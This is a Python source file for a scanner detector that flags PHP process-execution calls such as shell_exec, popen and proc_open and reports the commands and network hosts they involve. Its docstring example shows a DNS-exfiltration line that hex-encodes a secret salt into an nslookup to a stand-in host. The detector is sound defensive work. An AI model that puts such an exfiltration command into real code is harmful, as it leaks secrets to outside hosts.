"""# process-execution.

## What it does
Lists calls that start a program: `exec`, `shell_exec`, backticks, `proc_open`, `popen`, `pcntl_exec` and the like,
with the command where it is known and the hosts that stand in it.

## Why is this bad
A program can use the network in any way; `curl`, `nslookup` or `php -r` in a command line leave no PHP call behind.

## Example
```php
shell_exec("nslookup " . bin2hex($salt) . ".t.example.net");
```

## References
- CWE-78
"""

from __future__ import annotations

from collections.abc import Iterable

from scanner.analysis.destinations import UNRESOLVED
from scanner.analysis.summary import Hit, depends_on_caller
from scanner.analysis.templates import is_known
from scanner.detectors.base import Detector, Scene, finding, rule
from scanner.detectors.commands import KINDS, command_lines, hosts, uses_network
from scanner.detectors.shipped_scripts import script_hosts
from scanner.detectors.targets import leaves
from scanner.model.finding import Category, Confidence, Finding, Severity

RULE = rule("process-execution", Category.EGRESS, "Command run by the operating system", __doc__)
_MAX_MARKS = 6


def _find(scene: Scene) -> Iterable[Finding]:
    for hit in scene.result.hits:
        if hit.signature.kind in KINDS and not (hit.via and not _open_command(scene, hit)):
            yield _finding(scene, hit)


def _open_command(scene: Scene, hit: Hit) -> bool:
    """A wrapper's caller counts when what it passes is a command that says something."""
    return any(is_known(text) or uses_network(text) for text in command_lines(hit)) and bool(scene)


def _finding(scene: Scene, hit: Hit) -> Finding:
    holes = scene.result.state.holes
    commands = command_lines(hit)
    named = {host for command in commands for host in (*hosts(command, holes), *script_hosts(scene, command))}
    network = any(uses_network(command) for command in commands)
    known = bool(commands) and all(is_known(command) for command in commands)
    severity = Severity.MEDIUM if leaves(named) or network else Severity.LOW
    if not named and (network or not known):
        named = {UNRESOLVED}
    shown = [holes.show(command[:200]) for command in commands[:_MAX_MARKS]]
    text = f": {shown[0]}" if shown and not _by_caller(hit) else ""
    return finding(
        scene,
        RULE,
        hit,
        severity=severity,
        confidence=Confidence.CERTAIN if hit.certain else Confidence.POSSIBLE,
        api=hit.api if not hit.via else f"{hit.via[0]} ({hit.api})",
        message=f"{hit.api}() runs a command{text}",
        destinations=leaves(named),
        details=[("channel", hit.signature.kind), *(("command", command) for command in shown)],
    )


def _by_caller(hit: Hit) -> bool:
    return any(depends_on_caller(value) for role, value in hit.roles.items() if role == "command")


DETECTOR = Detector(RULE, _find)
